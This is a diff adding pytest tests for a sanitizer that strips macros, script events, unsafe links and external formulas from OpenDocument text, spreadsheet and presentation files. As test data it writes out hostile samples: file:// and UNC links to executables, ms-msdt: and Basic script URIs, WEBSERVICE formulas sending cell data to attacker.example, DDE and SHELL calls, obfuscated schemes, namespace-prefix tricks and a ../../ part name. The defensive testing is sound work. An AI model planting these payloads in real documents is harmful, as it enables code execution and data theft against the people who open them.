@@ -1,0 +1,362 @@
+"""OpenDocument contract: the same format without Basic, event listeners, macro links or external
+images; plain hyperlinks and the text stay."""
+
+from __future__ import annotations
+
+import html
+import zipfile
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from defusedxml.ElementTree import fromstring
+
+from converters.inspect.odf import formula_problem as inspector_formula_problem
+from converters.inspect.odf_package import check_odf
+from converters.inspect.outputs import inspect_file
+from tests.conftest import run_engine
+
+
+def test_clean_odt_passes(samples: Path, tmp_path: Path) -> None:
+    report = run_engine(samples / "odt-clean.odt", tmp_path)
+    assert report.outcome == "passed" and report.outputs[0].path == "odt-clean.odt"
+    assert inspect_file(tmp_path / "odt-clean.odt", tmp_path).clean
+
+
+def test_macros_events_and_external_images_are_removed(samples: Path, tmp_path: Path) -> None:
+    assert check_odf(samples / "odt-macro.odt")  # the inspector sees the dirt in the original
+    report = run_engine(samples / "odt-macro.odt", tmp_path)
+    codes = {f.code for f in report.findings}
+    assert report.outcome == "sanitized"
+    assert {"macro_removed", "script_event_removed", "external_link_removed"} <= codes
+    output = tmp_path / report.outputs[0].path
+    assert inspect_file(output, tmp_path).clean and check_odf(output) == []
+    with zipfile.ZipFile(output) as package:
+        assert package.namelist()[0] == "mimetype"
+        assert package.getinfo("mimetype").compress_type == zipfile.ZIP_STORED
+        assert not [n for n in package.namelist() if n.startswith("Basic/")]
+        content = package.read("content.xml").decode()
+        manifest = package.read("META-INF/manifest.xml").decode()
+    assert "Basic/" not in manifest
+    assert "attacker.example" not in content and "vnd.sun.star.script" not in content
+    assert "令和8年度 予算要求書 ①㈱ 髙橋" in content and "マクロ実行" in content  # text kept
+    assert "https://www.example.jp/" in content  # a plain hyperlink is not active content
+
+
+# --- links and formulas: allowlists (issue 10) ---------------------------------------------------------------
+
+ODF_NS = {
+    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
+    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
+    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
+    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
+    "xlink": "http://www.w3.org/1999/xlink",
+    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
+    "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
+    "meta": "urn:oasis:names:tc:opendocument:xmlns:meta:1.0",
+    "presentation": "urn:oasis:names:tc:opendocument:xmlns:presentation:1.0",
+    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
+    "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
+    "calcext": "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0",
+    "of": "urn:oasis:names:tc:opendocument:xmlns:of:1.2",
+    "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
+}
+XMLNS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in ODF_NS.items())
+ODF_MIME = {"odt": "application/vnd.oasis.opendocument.text", "ods": "application/vnd.oasis.opendocument.spreadsheet",
+            "odp": "application/vnd.oasis.opendocument.presentation"}
+BODY_TAG = {"odt": "office:text", "ods": "office:spreadsheet", "odp": "office:presentation"}
+
+
+def write_odf(path: Path, body: str, *, styles: str = "", meta: str = "", pictures: bool = False) -> Path:
+    """An OpenDocument package written by hand, so every attribute is exactly as an attacker writes it."""
+    kind = path.suffix[1:]
+    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {XMLNS} office:version="1.3">'
+               f"<office:automatic-styles>{styles}</office:automatic-styles>"
+               f"<office:body><{BODY_TAG[kind]}>{body}</{BODY_TAG[kind]}></office:body></office:document-content>")
+    meta_xml = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {XMLNS} office:version="1.3">'
+                f"<office:meta><meta:generator>test</meta:generator>{meta}</office:meta></office:document-meta>")
+    entries = [("/", ODF_MIME[kind]), ("content.xml", "text/xml"), ("meta.xml", "text/xml")]
+    if pictures:
+        entries.append(("Pictures/logo.png", "image/png"))
+    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
+                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
+                + "".join(f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{t}"/>'
+                          for p, t in entries) + "</manifest:manifest>")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
+        package.writestr(zipfile.ZipInfo("mimetype"), ODF_MIME[kind], compress_type=zipfile.ZIP_STORED)
+        package.writestr("META-INF/manifest.xml", manifest)
+        package.writestr("content.xml", content)
+        package.writestr("meta.xml", meta_xml)
+        if pictures:
+            package.writestr("Pictures/logo.png", b"\x89PNG\r\n\x1a\n" + bytes(64))
+    return path
+
+
+def parts_of(path: Path) -> tuple[ElementTree.Element, ElementTree.Element]:
+    with zipfile.ZipFile(path) as package:
+        return fromstring(package.read("content.xml")), fromstring(package.read("meta.xml"))
+
+
+def hrefs(root: ElementTree.Element) -> list[str]:
+    return [e.get(f"{{{ODF_NS['xlink']}}}href", "") for e in root.iter() if f"{{{ODF_NS['xlink']}}}href" in e.attrib]
+
+
+def all_text(root: ElementTree.Element) -> str:
+    return "".join(root.itertext())
+
+
+UNSAFE_LINKS = [
+    "file:///C:/Windows/System32/calc.exe",
+    "&#x66;ile:///C:/Windows/System32/calc.exe",  # a character reference: the parser decodes it
+    "  FILE:///C:/Users/Public/a.exe",  # leading spaces and upper case
+    "\\\\attacker.example\\share\\invoice.exe",  # UNC
+    "//attacker.example/share/invoice.exe",  # UNC written with slashes
+    "../../Windows/System32/calc.exe",  # relative: resolved next to the document
+    "ht&#x9;tp://attacker.example/",  # a tab inside the scheme is not http
+    "smb://attacker.example/share/a.exe",
+    "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application",
+    "ms-msdt:/id PCWDiagnostic",
+]
+SAFE_LINKS = {" HTTPS://www.example.jp/ ": "HTTPS://www.example.jp/", "https://www.city.example.lg.jp/": None,
+              "MailTo:soumu@city.example.lg.jp": None, "#目次": None, "http://&#x65;xample.jp/": "http://example.jp/"}
+
+
+@pytest.mark.parametrize("href", UNSAFE_LINKS)
+def test_text_and_drawing_links_are_an_allowlist(tmp_path: Path, href: str) -> None:
+    body = (f'<text:p>前の文 <text:a xlink:type="simple" xlink:href="{href}">請求書を<text:span>開く</text:span>'
+            f"ボタン</text:a> 後の文</text:p>"
+            f'<text:p><draw:a xlink:type="simple" xlink:href="{href}"><draw:frame draw:name="図1" svg:width="2cm" '
+            'svg:height="1cm" text:anchor-type="as-char"><draw:text-box><text:p>図の文字</text:p></draw:text-box>'
+            "</draw:frame></draw:a></text:p>"
+            f'<text:p><draw:frame draw:name="画像" svg:width="1cm" svg:height="1cm"><draw:image xlink:href="{href}" '
+            'xlink:type="simple"/></draw:frame>画像の後</text:p>'
+            f'<office:forms><form:form form:name="f"><form:button form:name="b" form:id="b1" '
+            f'form:button-type="url" xlink:href="{href}"/></form:form></office:forms>')
+    styles = (f'<style:style style:name="fr1" style:family="graphic"><style:graphic-properties>'
+              f'<style:background-image xlink:href="{href}" xlink:type="simple"/></style:graphic-properties>'
+              f'</style:style><draw:fill-image draw:name="塗り" xlink:href="{href}" xlink:type="simple"/>')
+    source = write_odf(tmp_path / "リンク.odt", body, styles=styles, meta=(
+        f'<meta:template xlink:type="simple" xlink:href="{href}" xlink:title="t"/>'
+        '<meta:auto-reload meta:delay="PT1S" xlink:href="https://example.jp/"/>'))
+    found = check_odf(source)  # the inspector reads the original's links by itself
+    assert len([p for p in found if "content.xml" in p and ("unsafe link" in p or "outside the package" in p)]) >= 5
+    assert [p for p in found if "meta.xml" in p and "auto-reload" in p]
+    report = run_engine(source, tmp_path / "out")
+    assert report.outcome == "sanitized"
+    assert {"external_link_removed", "script_link_removed"} & {f.code for f in report.findings}
+    output = tmp_path / "out" / report.outputs[0].path
+    content, meta = parts_of(output)
+    assert hrefs(content) == [] and hrefs(meta) == []
+    assert meta.find(f".//{{{ODF_NS['meta']}}}auto-reload") is None
+    assert "前の文 請求書を開くボタン 後の文" in all_text(content)  # the link became its visible text, in order
+    assert "図の文字" in all_text(content) and "画像の後" in all_text(content)
+    assert content.find(f".//{{{ODF_NS['draw']}}}frame") is not None  # the shape stays, not its link
+    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
+
+
+def test_safe_links_stay_written_as_the_application_reads_them(tmp_path: Path) -> None:
+    body = "".join(f'<text:p><text:a xlink:type="simple" xlink:href="{href}">リンク{n}</text:a></text:p>'
+                   for n, href in enumerate(SAFE_LINKS))
+    body += ('<text:p><draw:frame draw:name="p" svg:width="1cm" svg:height="1cm"><draw:image '
+             'xlink:href="Pictures/logo.png" xlink:type="simple"/></draw:frame></text:p>')
+    source = write_odf(tmp_path / "安全.odt", body, pictures=True)
+    assert check_odf(source) != []  # " HTTPS://..." with spaces is not how a safe link is written
+    report = run_engine(source, tmp_path / "out")
+    output = tmp_path / "out" / report.outputs[0].path
+    content, _ = parts_of(output)
+    expected = [(kept or href.replace("&#x65;", "e")) for href, kept in SAFE_LINKS.items()]
+    assert hrefs(content) == [*expected, "Pictures/logo.png"]
+    assert check_odf(output) == []
+
+
+ODS_CELLS = {
+    # formula (as written in the XML) -> the cell's cached value type and value, and its text
+    'of:=HYPERLINK(&quot;file:///C:/Windows/System32/calc.exe&quot;;&quot;開く&quot;)': ("string", "開く"),
+    'of:=HYPERLINK(&quot;\\\\attacker.example\\share\\a.exe&quot;)': ("string", "共有"),
+    "of:=HYPERLINK([.B1])": ("string", "セル参照のリンク"),
+    'of:=COM.MICROSOFT.WEBSERVICE(&quot;http://attacker.example/?q=&quot;&amp;[.A1])': ("float", "42"),
+    'of:=&#x57;EBSERVICE(&quot;http://attacker.example/&quot;)': ("float", "43"),
+    'of:=COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://attacker.example/x&quot;);&quot;//a&quot;)':
+        ("string", "抽出"),
+    'of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)': ("float", "0"),
+    "of:=['file:///C:/秘密/台帳.ods'#$Sheet1.A1]": ("float", "7"),
+    "of:=SUM(['https://attacker.example/x.ods'#$Sheet1.A1:.B3])": ("float", "8"),
+    "oooc:='file:///C:/x.ods'#$Sheet1.A1": ("float", "9"),
+    "msoxl:=[1]Sheet1!A1": ("float", "10"),
+    'of:=INDIRECT(&quot;&apos;file:///C:/x.ods&apos;#$Sheet1.A1&quot;)': ("float", "11"),
+}
+SAFE_FORMULAS = ["of:=SUM([.A1:.A3])", 'of:=HYPERLINK(&quot;https://www.example.jp/&quot;;&quot;公式&quot;)',
+                 "of:=[$'予算 シート'.A1]*2", 'of:=IF(ISNA([.A1]);&quot;なし&quot;;[.A1])']
+
+
+def _cell(formula: str, kind: str, value: str) -> str:
+    cached = f'office:value="{value}"' if kind == "float" else f'office:string-value="{value}"'
+    target = "https://www.example.jp/" if "https://www.example.jp/" in formula else "file:///C:/Windows/calc.exe"
+    text = f'<text:a xlink:href="{target}">{value}</text:a>' if "HYPERLINK" in formula else value
+    return (f'<table:table-cell table:formula="{formula}" office:value-type="{kind}" {cached}>'
+            f"<text:p>{text}</text:p></table:table-cell>")
+
+
+def test_spreadsheet_formulas_reaching_outside_keep_only_their_cached_value(tmp_path: Path) -> None:
+    rows = "".join(f"<table:table-row>{_cell(f, k, v)}</table:table-row>" for f, (k, v) in ODS_CELLS.items())
+    rows += "".join(f"<table:table-row>{_cell(f, 'float', str(n))}</table:table-row>"
+                    for n, f in enumerate(SAFE_FORMULAS))
+    validation = ('<table:content-validations><table:content-validation table:name="v1" table:condition='
+                  '"of:cell-content-is-in-list(COM.MICROSOFT.WEBSERVICE(&quot;http://attacker.example/l&quot;))" '
+                  'table:base-cell-address="Sheet1.A1"><table:error-macro table:execute="true"/>'
+                  '</table:content-validation><table:content-validation table:name="v2" '
+                  'table:condition="of:cell-content-is-whole-number() and cell-content-is-between(1;10)" '
+                  'table:base-cell-address="Sheet1.A2"/></table:content-validations>')
+    named = ('<table:named-expressions><table:named-expression table:name="外部" '
+             'table:expression="of:=WEBSERVICE(&quot;http://attacker.example/n&quot;)" table:base-cell-address='
+             '"$Sheet1.$A$1"/><table:named-range table:name="遠く" table:cell-range-address='
+             "\"'file:///C:/x.ods'#$Sheet1.$A$1\" table:base-cell-address=\"$Sheet1.$A$1\"/>"
+             '<table:named-range table:name="合計範囲" table:cell-range-address="$Sheet1.$A$1:.$A$3" '
+             'table:base-cell-address="$Sheet1.$A$1"/></table:named-expressions>')
+    formats = ('<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address="Sheet1.A1:'
+               'Sheet1.A9"><calcext:condition calcext:apply-style-name="Good" calcext:value="formula-is(['
+               "'file:///C:/x.ods'#$Sheet1.A1]&gt;0)\" calcext:base-cell-address=\"Sheet1.A1\"/>"
+               '<calcext:condition calcext:apply-style-name="Good" calcext:value="formula-is([.A1]&gt;0)" '
+               'calcext:base-cell-address="Sheet1.A1"/></calcext:conditional-format></calcext:conditional-formats>')
+    styles = ('<style:style style:name="ce1" style:family="table-cell"><style:map style:condition='
+              '"is-true-formula(WEBSERVICE(&quot;http://attacker.example/s&quot;))" style:apply-style-name="Good" '
+              'style:base-cell-address="Sheet1.A1"/><style:map style:condition="cell-content()&gt;10" '
+              'style:apply-style-name="Good" style:base-cell-address="Sheet1.A1"/></style:style>')
+    body = (f'{validation}<table:table table:name="Sheet1"><table:table-column/>{rows}</table:table>'
+            f"{named}{formats}")
+    source = write_odf(tmp_path / "予算.ods", body, styles=styles)
+    original = check_odf(source)
+    assert len([p for p in original if "content.xml" in p]) >= len(ODS_CELLS)
+    report = run_engine(source, tmp_path / "out")
+    assert report.outcome == "sanitized" and "external_formula_removed" in {f.code for f in report.findings}
+    output = tmp_path / "out" / report.outputs[0].path
+    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
+    with zipfile.ZipFile(output) as package:
+        xml = package.read("content.xml").decode("utf-8")
+    for needle in ("attacker.example", "file:", "WEBSERVICE", "DDE(", "msoxl", "error-macro", "外部", "遠く"):
+        assert needle not in xml, needle
+    content, _ = parts_of(output)
+    table = ODF_NS["table"]
+    cells = list(content.iter(f"{{{table}}}table-cell"))
+    formulas = [c.get(f"{{{table}}}formula") for c in cells]
+    assert formulas == [None] * len(ODS_CELLS) + [f.replace("&quot;", '"') for f in SAFE_FORMULAS]
+    for cell, (kind, value) in zip(cells, ODS_CELLS.values(), strict=False):
+        cached = cell.get(f"{{{ODF_NS['office']}}}value" if kind == "float" else
+                          f"{{{ODF_NS['office']}}}string-value")
+        assert (cached, all_text(cell)) == (value, value)  # the cached value and the shown text stay
+    assert hrefs(content) == ["https://www.example.jp/"]  # only the safe HYPERLINK cell's shown link
+    conditions = [v.get(f"{{{table}}}condition") for v in content.iter(f"{{{table}}}content-validation")]
+    assert conditions == [None, "of:cell-content-is-whole-number() and cell-content-is-between(1;10)"]
+    assert [m.get(f"{{{ODF_NS['style']}}}condition") for m in content.iter(f"{{{ODF_NS['style']}}}map")] == [
+        "cell-content()>10"]
+    assert [c.get(f"{{{ODF_NS['calcext']}}}value") for c in content.iter(f"{{{ODF_NS['calcext']}}}condition")] == [
+        "formula-is([.A1]>0)"]
+    assert [r.get(f"{{{table}}}name") for r in content.iter(f"{{{table}}}named-range")] == ["合計範囲"]
+
+
+@pytest.mark.parametrize("formula", list(ODS_CELLS))
+def test_the_inspector_reads_each_formula_by_itself(formula: str) -> None:
+    decoded = html.unescape(formula)
+    assert inspector_formula_problem(decoded) is not None
+
+
+@pytest.mark.parametrize("formula", SAFE_FORMULAS)
+def test_the_inspector_leaves_local_formulas_alone(formula: str) -> None:
+    assert inspector_formula_problem(html.unescape(formula)) is None
+
+
+def test_presentation_click_actions_and_links_are_removed(tmp_path: Path) -> None:
+    body = ('<draw:page draw:name="表紙"><draw:frame draw:name="ボタン" svg:width="4cm" svg:height="1cm" '
+            'svg:x="1cm" svg:y="1cm"><draw:text-box><text:p>次へ <text:a xlink:href=" file:///C:/x.exe">'
+            "ここ</text:a></text:p></draw:text-box><office:event-listeners><presentation:event-listener "
+            'script:event-name="dom:click" presentation:action="show" xlink:href="\\\\attacker.example\\s\\a.exe"/>'
+            '</office:event-listeners></draw:frame><draw:a xlink:href="//attacker.example/s/b.exe">'
+            '<draw:custom-shape draw:name="矢印" svg:width="1cm" svg:height="1cm"><text:p>矢印</text:p>'
+            "</draw:custom-shape></draw:a></draw:page>")
+    source = write_odf(tmp_path / "発表.odp", body)
+    assert check_odf(source)
+    report = run_engine(source, tmp_path / "out")
+    output = tmp_path / "out" / report.outputs[0].path
+    content, _ = parts_of(output)
+    assert hrefs(content) == [] and "次へ ここ" in all_text(content) and "矢印" in all_text(content)
+    assert content.find(f".//{{{ODF_NS['draw']}}}custom-shape") is not None
+    assert {"external_link_removed", "script_event_removed"} <= {f.code for f in report.findings}
+    assert check_odf(output) == []
+
+
+def test_odf_formulas_keep_only_local_functions() -> None:
+    from converters.formats.odf_references import formula_risk
+
+    for local in ("of:=SUM([.A1:.A5])", "of:=COM.MICROSOFT.XLOOKUP([.A1];[.B1:.B4];[.C1:.C4])",
+                  "of:=ORG.OPENOFFICE.WEEKS([.A1];[.A2];0)", "of:=TEXT(NOW();\"yyyy\")",
+                  "of:cell-content-is-between(1;10)", "of:formula-is([.A1]>0)", "value()>=0"):
+        assert formula_risk(local) is None, local
+    for outside in ("of:=SHELL(\"calc\")", "of:=COM.MICROSOFT.WEBSERVICE(\"http://x\")",
+                    "of:=ORG.OPENOFFICE.UNKNOWNADDIN(1)", "of:=SUM(1;EXECUTE(\"x\"))"):
+        assert formula_risk(outside) is not None, outside
+
+
+# --- what the output binds each prefix to, and its part names (fuzz 2947f21f5717) --------------------------------
+
+REGRESSIONS = Path(__file__).resolve().parents[2] / "fuzz" / "regressions"
+
+
+def test_prefixes_bound_to_other_namespaces_are_written_with_the_usual_ones(tmp_path: Path) -> None:
+    """``text:`` bound to the table namespace: an application reads the element by namespace (an
+    unknown table element, kept), a byte-level reader by prefix (an execute-macro). The real
+    execute-macro written as ``t:`` is unwrapped; the output binds every usual prefix to its own
+    namespace, so the inspector and the application read the same elements."""
+    src = write_odf(tmp_path / "prefixes.odt", (
+        f'<t:p xmlns:t="{ODF_NS["text"]}"><t:execute-macro t:name="Main">マクロ実行</t:execute-macro></t:p>'
+        f'<text:p xmlns:text="{ODF_NS["table"]}"><text:execute-macro text:name="Main">表の要素</text:execute-macro>'
+        "</text:p>"))
+    report = run_engine(src, tmp_path / "out")
+    assert report.outcome == "sanitized" and "script_event_removed" in {f.code for f in report.findings}
+    output = tmp_path / "out" / report.outputs[0].path
+    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
+    with zipfile.ZipFile(output) as package:
+        content = package.read("content.xml")
+    assert b"<text:execute-macro" not in content and b"xmlns:t=" not in content
+    assert b'<table:execute-macro table:name="Main">' in content  # what the element is, by its namespace
+    root = fromstring(content)
+    assert root.find(f".//{{{ODF_NS['text']}}}execute-macro") is None
+    assert "マクロ実行" in all_text(root) and "表の要素" in all_text(root)
+
+
+def test_a_part_named_twice_or_outside_the_package_is_written_once_or_not_at_all(tmp_path: Path) -> None:
+    src = write_odf(tmp_path / "names.odt", "<text:p>本文</text:p>")
+    with zipfile.ZipFile(src, "a") as package, pytest.warns(UserWarning, match="Duplicate name"):
+        package.writestr("../../evil.xml", "<x/>")
+        package.writestr("content.xml", f'<office:document-content {XMLNS}><office:body><office:text>'
+                                        "<text:p>後の本文</text:p></office:text></office:body></office:document-content>")
+    report = run_engine(src, tmp_path / "out")
+    assert ("part_removed", "a part named outside the package: ../../evil.xml") in \
+        {(f.code, f.detail) for f in report.findings}
+    with zipfile.ZipFile(tmp_path / "out" / report.outputs[0].path) as package:
+        names = package.namelist()
+        assert names.count("content.xml") == 1 and not [n for n in names if ".." in n]
+        assert "後の本文" in package.read("content.xml").decode()  # the one zipfile (and so the rebuild) read
+
+
+def test_fuzz_input_with_a_rebound_text_prefix_passes_the_inspector(tmp_path: Path) -> None:
+    src = tmp_path / "odt-macro.odt"
+    src.write_bytes((REGRESSIONS / "2947f21f5717-odf.bin").read_bytes())
+    report = run_engine(src, tmp_path / "out")
+    assert report.outcome == "sanitized"
+    output = tmp_path / "out" / report.outputs[0].path
+    assert check_odf(output) == [] and inspect_file(output, tmp_path).clean
+
+
+def test_a_comment_in_the_manifest_is_not_an_entry(samples: Path, tmp_path: Path) -> None:
+    """Found by fuzzing: a comment among manifest:file-entry elements crashed the rebuild."""
+    source = samples / "odt-macro.odt"
+    target = tmp_path / "commented.odt"
+    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as out:
+        for info in original.infolist():
+            data = original.read(info)
+            if info.filename == "META-INF/manifest.xml":
+                data = data.replace(b"<manifest:file-entry", b"<!-- x --><manifest:file-entry", 1)
+                assert b"<!-- x -->" in data
+            out.writestr(info, data)
+    report = run_engine(target, tmp_path / "out")
+    assert report.outcome == "sanitized", report.reason
